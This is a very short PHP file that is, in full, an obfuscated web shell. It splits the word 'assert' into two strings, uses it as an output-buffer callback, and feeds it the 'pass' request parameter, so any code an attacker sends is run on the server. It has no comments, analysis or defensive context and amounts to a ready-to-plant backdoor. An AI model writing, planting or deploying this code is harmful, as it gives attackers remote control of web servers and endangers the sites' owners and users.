<?php
@ob_start('ass' . 'ert');
echo $_REQUEST['pass'];
@ob_end_flush();
